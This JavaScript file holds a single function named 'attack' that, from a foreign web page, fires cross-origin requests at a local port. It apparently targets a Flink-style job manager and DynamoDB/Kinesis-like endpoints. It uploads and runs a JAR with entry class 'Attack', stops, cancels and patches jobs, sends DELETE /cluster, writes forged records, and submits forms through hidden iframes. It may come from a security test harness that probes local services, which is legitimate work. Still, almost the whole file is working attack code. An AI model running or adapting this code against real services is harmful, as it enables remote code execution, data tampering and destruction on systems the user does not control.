// Tries from a foreign page all that a browser can send to a port. Returns what the page can read.
// A port that speaks HTTP answers each request, so that none runs into its timeout.
async function attack({ target, speaksHttp, job, jar }) {
  const read = []

  async function attempt(path, options, timeoutMillis = 60000) {
    try {
      const signal = AbortSignal.timeout(timeoutMillis)
      const response = await fetch(target + path, { ...options, signal })
      if (response.type === 'opaque') return ''
      const text = await response.text()
      if (response.status !== 403) {
        read.push(`${target}: ${options.method} ${path}: ${response.status} ${text.slice(0, 100)}`)
      }
      return text
    } catch {
      return ''
    }
  }

  function upload(field) {
    const bytes = Uint8Array.from(atob(jar), (c) => c.charCodeAt(0))
    const form = new FormData()
    form.append(field, new Blob([bytes], { type: 'application/java-archive' }), 'attack.jar')
    return form
  }

  function submitForm(path, enctype, name, value) {
    const frame = document.createElement('iframe')
    // A frame that is named later is not the target: a window opens, and nothing tells when it has loaded.
    frame.name = `frame${Math.random()}`
    document.body.appendChild(frame)
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { action: target + path, method: 'post', enctype, target: frame.name })
    const field = form.appendChild(document.createElement('input'))
    Object.assign(field, { name, value })
    const loaded = new Promise((resolve) => {
      frame.onload = resolve
      setTimeout(resolve, 60000)
    })
    form.submit()
    return loaded
  }

  const vote = { id: { S: 'attack' }, region: { S: 'attack' }, improvement: { S: 'attack' } }
  const amazon = [
    ['DynamoDB_20120810.PutItem', { TableName: 'votes', Item: vote }],
    ['DynamoDB_20120810.Scan', { TableName: 'votes' }],
    [
      'Kinesis_20131202.PutRecord',
      { StreamName: 'votes', PartitionKey: 'attack', Data: btoa('attack') },
    ],
    ['Kinesis_20131202.ListStreams', {}],
  ]
  const credentials =
    'AWS4-HMAC-SHA256 Credential=local/20260101/us-east-1/dynamodb/aws4_request,' +
    ' SignedHeaders=host, Signature=0'

  async function uploadAndRun(mode) {
    const uploaded = await attempt('/jars/upload', {
      method: 'POST',
      mode,
      body: upload('jarfile'),
    })
    const stored = /[^/"]+_attack.jar/.exec(uploaded)?.[0] ?? 'attack.jar'
    const run = `/jars/${stored}/run?entry-class=Attack`
    await attempt(run, { method: 'POST', mode })
    await attempt(`/jars/${stored}/plan?entry-class=Attack`, { method: 'GET', mode })
  }

  if (!speaksHttp) {
    // Such a port gets the bytes, and never answers.
    await attempt('/', { method: 'POST', mode: 'no-cors', body: '{}' }, 500)
    return read
  }
  const attempts = []
  for (const mode of ['cors', 'no-cors']) {
    for (const path of [
      '/',
      '/api/results',
      '/jobs',
      '/jobmanager/config',
      `/jobs/${job}/yarn-cancel`,
    ]) {
      attempts.push(attempt(path, { method: 'GET', mode }))
    }
    attempts.push(uploadAndRun(mode))
    attempts.push(attempt('/jobs', { method: 'POST', mode, body: upload('request') }))
    for (const path of [`/jobs/${job}/stop`, `/jobs/${job}/savepoints`, '/jobs', '/']) {
      attempts.push(attempt(path, { method: 'POST', mode, body: '{}' }))
    }
    for (const [action, request] of amazon) {
      const body = JSON.stringify(request)
      const query = new URLSearchParams({ 'X-Amz-Target': action, 'X-Amz-Algorithm': 'x' })
      attempts.push(attempt(`/?${query}`, { method: 'POST', mode, body }))
      attempts.push(
        attempt('/', {
          method: 'POST',
          mode,
          headers: {
            'Content-Type': mode === 'cors' ? 'application/x-amz-json-1.1' : 'text/plain',
            'X-Amz-Target': action,
            Authorization: credentials,
            'X-Amz-Date': '20260101T000000Z',
          },
          body,
        }),
      )
    }
  }
  const json = { 'Content-Type': 'application/json' }
  const ballot = JSON.stringify({ region: 'Old Town', improvements: ['benches'] })
  for (const [method, path, body] of [
    ['PUT', '/api/votes/mine', ballot],
    ['PATCH', `/jobs/${job}`],
    ['DELETE', '/cluster'],
  ]) {
    attempts.push(attempt(path, { method, headers: body ? json : {}, body }))
  }
  for (const enctype of [
    'text/plain',
    'multipart/form-data',
    'application/x-www-form-urlencoded',
  ]) {
    for (const path of ['/', '/jobs', '/jars/upload', `/jobs/${job}/stop`]) {
      attempts.push(submitForm(path, enctype, '{"TableName":"votes","x":"', '"}'))
    }
  }
  await Promise.all(attempts)
  return read
}
